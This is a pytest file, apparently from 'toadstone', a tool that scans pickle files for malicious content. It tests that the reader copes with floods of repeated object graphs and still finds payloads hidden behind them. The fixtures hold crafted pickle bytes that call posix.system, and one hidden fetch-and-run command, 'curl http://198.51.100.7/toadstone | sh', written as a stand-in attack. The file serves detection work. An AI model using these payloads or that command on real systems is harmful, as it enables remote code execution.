"""Calls that are handed the same graph again and again: the work stays linear, nothing new is missed, and what is cut is said."""

from __future__ import annotations

import struct

import pytest

from toadstone.core.blob import BytesBlob
from toadstone.core.budget import Budget
from toadstone.core.fact import Call, Unread
from toadstone.core.finding import Severity
from toadstone.core.place import Place
from toadstone.core.value import Items, Opaque, Result, Symbol, Table, leaves, render
from toadstone.readers.pickle.handing import Handing
from toadstone.readers.reader import Source
from toadstone.readers.walk import walk
from toadstone.verbs.scan import scan

FUNCTION = b"\x80\x04\x8c\x01m\x8c\x01f\x93\x940"
CALL = b"\x8c\x05posix\x8c\x06system\x93\x8c\x0eecho toadstone\x85R"


def number(value: int) -> bytes:
    return struct.pack("<I", value)


FLOODS = {
    "doubling tuples": b"N" + b"".join(b"2\x86\x94h\x00j%b\x85R0" % number(n + 1) for n in range(20_000)),
    "growing list": b"]\x940" + b"".join(b"h\x01J%ba0h\x00h\x01\x85R0" % number(n) for n in range(20_000)),
    "growing dict": b"}\x940" + b"".join(b"h\x01J%bNs0h\x00h\x01\x85R0" % number(n) for n in range(20_000)),
    "objects that hold each other": b"".join(b"h\x00)R}\x8c\x01aj%bsb\x94" % number(n) for n in range(20_000)),
    "results of results": b"N" + b"\x85h\x00\x8c\x00\x86R" * 20_000,
    "results that are called": b"h\x00)R" + b"\x8c\x01a\x85R" * 20_000,
}


def facts_of(data: bytes) -> list:
    return list(walk(Source(BytesBlob(data), "a.pkl", Place("a.pkl"), Budget.of(len(data)))))


@pytest.mark.parametrize("flood", FLOODS)
def test_what_calls_are_handed_grows_with_the_stream_and_not_with_its_square(flood):
    data = FUNCTION + FLOODS[flood] + CALL + b"."
    facts = facts_of(data)
    handed = sum(len(leaves(value)) for fact in facts if isinstance(fact, Call) for value in (fact.callee, *fact.args))
    assert handed < 400_000 + len(data)
    assert sum(isinstance(fact, Call) for fact in facts) < 2_000 or flood == "growing dict"  # the same ones are told a few times
    assert any(isinstance(fact, Call) and fact.callee == Symbol("posix", "system") for fact in facts)


def test_a_payload_behind_a_flood_of_graphs_is_found_in_what_is_new(tmp_path):
    path = tmp_path / "a.pkl"
    hidden = b"h\x00](]\x8c\x26curl http://198.51.100.7/toadstone | sha" + b"e\x85R"
    path.write_bytes(FUNCTION + FLOODS["growing list"] + hidden + b".")
    report = scan(path)
    assert any(finding.severity >= Severity.HIGH and "198.51.100.7" in str(finding.evidence) for finding in report.findings)


def test_what_is_left_out_is_said_once():
    reasons = [fact.reason for fact in facts_of(FUNCTION + FLOODS["doubling tuples"] + b".") if isinstance(fact, Unread)]
    assert sum("the same large values again and again" in reason for reason in reasons) == 1


def test_objects_whose_states_hold_each_other_are_read_to_the_end():
    facts = facts_of(FUNCTION + FLOODS["objects that hold each other"] + b".")
    assert not any(isinstance(fact, Unread) for fact in facts)


def exhausted() -> Handing:
    handing = Handing(0)
    crowd = [Items("list", [str(index)] * 250) for index in range(1_000)]
    for first in range(0, len(crowd), 25):
        handing.cut(Symbol("m", "f"), (Items("list", list(crowd[first : first + 25])),), (), "REDUCE")
    return handing


def test_arguments_are_handed_as_they_are_at_first_and_always_when_they_are_plain():
    value = Items("list", ["x" * 20, Items("tuple", [1, 2])])
    assert Handing(0).cut(Symbol("m", "f"), (value,), (), "REDUCE") is None
    assert exhausted().cut(Symbol("m", "f"), ("x", 1, None), (), "REDUCE") is None


def test_new_values_are_copied_whole():
    table = Table()
    table.add_flat(["key", Result(Symbol("m", "C"), ("text", Items("list", [1, 2, 3])), (("name", "value"),), ["state"])])
    value = Items("list", [table, Items("tuple", [table, Opaque()], more=3)])
    cut = exhausted().cut(Symbol("m", "f"), (value,), (("again", value),), "REDUCE")
    assert cut is not None
    assert not cut.lost
    assert render(cut.args[0], 2_000) == render(value, 2_000)
    assert [name for name, _ in cut.kwargs] == ["again"]
    assert cut.kwargs[0][1] is cut.args[0]
    assert leaves(cut.args[0])[:6] == ["key", Symbol("m", "C"), "text", 1, 2, 3]


def test_of_values_that_were_handed_before_only_what_came_since_is_handed():
    handing = exhausted()
    value = Items("list", [f"old {index}" for index in range(20)])
    assert not handing.cut(Symbol("m", "f"), (value,), (), "REDUCE").lost
    value.add(["new"])
    cut = handing.cut(Symbol("m", "f"), (value,), (), "REDUCE")
    assert cut.lost
    assert cut.args[0].items == ["new"]
    assert cut.args[0].more == 20


def test_states_of_known_objects_are_not_needed_where_something_is_set():
    handing = exhausted()
    held = Result(Symbol("m", "C"), (), (), [Items("list", [f"old {index}" for index in range(20)])])
    assert not handing.cut(Symbol("m", "f"), (held,), (), "BUILD").lost
    cut = handing.cut(Symbol("m", "f"), (held,), (), "BUILD")
    assert not cut.lost
    assert isinstance(cut.args[0], Result)
    assert cut.args[0].callee == Symbol("m", "C")
    assert not cut.args[0].state
    held.state.append("new")
    assert handing.cut(Symbol("m", "f"), (held,), (), "BUILD").args[0].state == ["new"]
